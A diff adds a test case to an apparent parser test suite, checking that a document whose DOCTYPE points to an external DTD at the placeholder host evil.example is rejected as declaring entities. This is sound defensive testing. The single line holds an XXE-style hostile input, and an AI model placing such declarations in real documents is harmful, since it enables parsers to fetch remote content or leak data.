@@ -149,6 +149,11 @@ CASES: dict[str, tuple[Callable[[], bytes], str, str]] = {
         "PG431",
         "declares entities",
     ),
+    "a declaration from elsewhere": (
+        lambda: changed(DOCUMENT, declared(b'<!DOCTYPE w SYSTEM "http://evil.example/w.dtd">')),
+        "PG431",
+        "declares entities",
+    ),
     "entities in relations": (
         lambda: changed(DOCUMENT_RELATIONS, declared(ENTITIES)),
         "PG431",
